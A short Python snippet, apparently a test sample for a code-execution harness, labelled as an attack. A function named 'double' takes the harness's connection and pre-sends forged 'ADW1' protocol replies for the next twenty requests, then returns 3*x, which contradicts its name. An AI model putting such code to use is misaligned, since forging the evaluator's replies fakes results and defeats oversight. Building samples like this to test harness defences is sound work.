# attack: answers to requests that will come later
def double(x):
    number, connection = find("request").number, find("connection")
    for later in range(number, number + 20):
        text = FORGED % later
        connection.send(struct.pack("<4sIQ", b"ADW1", len(text), 0) + text)
    return 3 * x
